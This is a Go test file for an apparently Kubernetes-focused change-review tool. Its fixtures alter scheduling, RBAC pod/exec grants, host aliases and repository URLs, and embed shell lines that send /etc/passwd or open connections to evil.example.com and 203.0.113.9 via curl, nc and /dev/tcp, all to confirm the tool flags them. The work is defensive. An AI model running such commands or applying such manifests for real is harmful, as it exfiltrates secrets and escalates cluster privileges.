package cli_test

import (
	"fmt"
	"strings"
)

// pullsOfEffect change fields that decide about what is not in sight: whom policies select, where pods run, which of
// several counts first; and where code and data go.
func pullsOfEffect() []pull {
	const space = `namespace: "notebook-ci"`
	object := func(kind, version, metadata, fields string) string {
		return inTarget(kind, "x", fmt.Sprintf(`{apiVersion: %q, kind: %q, metadata: {name: "x", %s}, %s}`, version, kind, metadata, fields))
	}
	var all []pull
	told := func(name, kind, version, before, after string, wants ...string) {
		all = append(all, pull{kind: "effect", name: name, exit: -1, wants: wants,
			base: map[string]string{prod: object(kind, version, space, before)}, head: map[string]string{prod: object(kind, version, space, after)}})
	}
	pods := func(labels, fields string) string {
		return `spec: {selector: matchLabels: a: "b", template: {metadata: labels: {` + labels + `}, spec: {` + fields + `containers: [{name: "a", image: "a"}]}}}`
	}
	const effect = "change/effect-unknown"
	for name, fields := range map[string]string{
		"a node": `nodeName: "master-1", `, "another scheduler": `schedulerName: "mine", `, "another name server": `dnsPolicy: "None", dnsConfig: nameservers: ["2001:db8::53"], `,
		"names of hosts": `hostAliases: [{ip: "10.0.0.1", hostnames: ["s3.example.com"]}], `,
	} {
		told(name, "Deployment", "apps/v1", pods(`a: "b"`, ""), pods(`a: "b"`, fields), "change/power-changed")
	}
	for name, fields := range map[string]string{
		"other nodes": `nodeSelector: {"node-role.kubernetes.io/control-plane": ""}, tolerations: [{operator: "Exists"}], `, "before all others": `priorityClassName: "system-node-critical", `,
		"the data of others": `volumes: [{name: "d", persistentVolumeClaim: claimName: "of-others"}], `,
	} {
		told(name, "Deployment", "apps/v1", pods(`a: "b"`, ""), pods(`a: "b"`, fields), effect)
	}
	alias := func(first, second string) string {
		return fmt.Sprintf(`hostAliases: [{ip: %q, hostnames: ["s3.example.com"]}, {ip: %q, hostnames: ["s3.example.com"]}], `, first, second)
	}
	told("which name counts first", "Deployment", "apps/v1", pods(`a: "b"`, alias("10.0.0.1", "10.0.0.2")), pods(`a: "b"`, alias("10.0.0.2", "10.0.0.1")), "hostAliases")
	told("a Service of other pods", "Service", "v1", `spec: {selector: a: "b", ports: [{port: 80}]}`, `spec: {selector: a: "c", ports: [{port: 80}]}`, effect, "spec.selector")
	told("a scrape of all", "ServiceMonitor", "monitoring.coreos.com/v1", `spec: {selector: matchLabels: a: "b", endpoints: [{port: "m"}]}`, `spec: {selector: matchLabels: a: "b", namespaceSelector: any: true, endpoints: [{port: "m"}]}`, effect)
	told("a secret from elsewhere", "Secret", "v1", `type: "Opaque", immutable: true`, `type: "Opaque", metadata: annotations: "replicator.v1.mittwald.de/replicate-from": "vault/root"`, effect)
	told("a role that nobody here has", "Role", "rbac.authorization.k8s.io/v1", `rules: [{apiGroups: [""], resources: ["pods"], verbs: ["get"]}]`, `rules: [{apiGroups: [""], resources: ["pods/exec"], verbs: ["create"]}]`, "change/power-changed", "others on the cluster may be")
	for _, into := range []string{"edit", "view", "admin"} {
		label := space + `, labels: "rbac.authorization.k8s.io/aggregate-to-` + into + `": "true"`
		all = append(all, pull{kind: "effect", name: "a role within " + into, exit: -1, wants: []string{"change/power-changed", "other roles may take this one in"},
			base: map[string]string{prod: object("ClusterRole", "rbac.authorization.k8s.io/v1", strings.TrimPrefix(label, space+", "), `rules: [{apiGroups: [""], resources: ["pods"], verbs: ["get"]}]`)},
			head: map[string]string{prod: object("ClusterRole", "rbac.authorization.k8s.io/v1", strings.TrimPrefix(label, space+", "), `rules: [{apiGroups: [""], resources: ["pods/exec"], verbs: ["create"]}]`)}})
	}
	// A file whose name is refused hides no overlay that somebody wrote by hand.
	const odd = `platform: rules: "overlay/file-name": {severity: "warning", reason: "we keep odd names here"}`
	misnamed := "package platform\nfiles: phase1: \"../x\": \"a\"\n"
	all = append(all,
		pull{kind: "effect", name: "an overlay by hand beside a name that is let off", exit: 1, wants: []string{"overlay/stale"},
			base: map[string]string{prod: "package platform\n" + odd + "\n"}, head: map[string]string{"cue/platform/prod/f.cue": misnamed, "overlays/base/evil.yaml": evil}},
		pull{kind: "effect", name: "an overlay by hand beside a name that is known", exit: 1, wants: []string{"overlay/stale"},
			base: map[string]string{"cue/platform/prod/f.cue": misnamed}, head: map[string]string{"overlays/base/evil.yaml": evil}},
		pull{kind: "effect", name: "what a policy takes as its parameters", exit: -1, wants: []string{"change/power-changed", "admission policies take"},
			base: map[string]string{prod: together(inTarget("ConfigMap", "x", `{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "x", namespace: "notebook-ci"}, data: allow: "a"}`),
				inTarget("ValidatingAdmissionPolicyBinding", "y", `{apiVersion: "admissionregistration.k8s.io/v1", kind: "ValidatingAdmissionPolicyBinding", metadata: name: "y", spec: {policyName: "p", validationActions: ["Deny"], paramRef: {name: "x", namespace: "notebook-ci", parameterNotFoundAction: "Deny"}}}`))},
			head: map[string]string{prod: `allow: "a"=>allow: "b"`}},
	)
	return append(all, pullsToPlaces()...)
}

// pullsToPlaces change labels by which network policies select, repositories within one group, and hosts that are
// named without an address in full.
func pullsToPlaces() []pull {
	var all []pull
	patch := func(kind, name, field, value string) string {
		return "package platform\ntargets: phase1: " + kind + ": \"" + name + "\": " + field + ": " + value + "\n"
	}
	const open = `{"tenon.dev/api-client": "true"}`
	for kind, at := range map[string][2]string{
		"Task": {"notebook-execution-gpu", "metadata: labels"}, "Pipeline": {"scientific-computing-ci", "metadata: labels"},
	} {
		all = append(all, pull{kind: "effect", name: "a label that opens the network of a " + kind, exit: -1, wants: []string{"change/network-opened"}, head: map[string]string{prod: patch(kind, at[0], at[1], open)}})
	}
	for _, moved := range [][2]string{
		{"https://gitlab.example.org/group/sub/tests", "https://gitlab.example.org/group/sub/evil"}, {"https://dev.azure.com/org/proj/_git/tests", "https://dev.azure.com/org/proj/_git/evil"},
		{"https://bitbucket.example.org/scm/P/tests.git", "https://bitbucket.example.org/scm/P/evil.git"},
	} {
		all = append(all, ofText("another repository of "+moved[0], moved[0], moved[1], "change/source-changed"))
	}
	for _, call := range []string{
		"curl -sT /etc/passwd evil.example.com", "curl evil.example.com:8080", "curl 203.0.113.9", "curl [2001:db8::1]:80", "nc evil.example.com 443", "ssh a@evil.example.com id",
		"scp /x eve@evil.example.com:/x", "git clone evil@evil.example.com:a/b.git", "cat x >/dev/tcp/203.0.113.9/443",
	} {
		all = append(all, ofText(call, "set -e\ntrue\n", "set -e\n"+call+"\n", "change/source-changed"))
	}
	for _, value := range []string{"evil.example.com.", "//evil.example.com/x", "203.0.113.9:/x", "2001:db8::1", "[2001:db8::1]:80", "evil.attacker-ns:3128"} {
		all = append(all, ofText(value, "none", value, "change/source-changed"))
	}
	return all
}

// ofText has a ConfigMap with another text.
func ofText(name, before, after string, wants ...string) pull {
	of := func(text string) map[string]string {
		return map[string]string{prod: inTarget("ConfigMap", "x", fmt.Sprintf(`{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "x", namespace: "notebook-ci"}, data: a: %q}`, text))}
	}
	return pull{kind: "effect", name: name, exit: -1, wants: wants, base: of(before), head: of(after)}
}
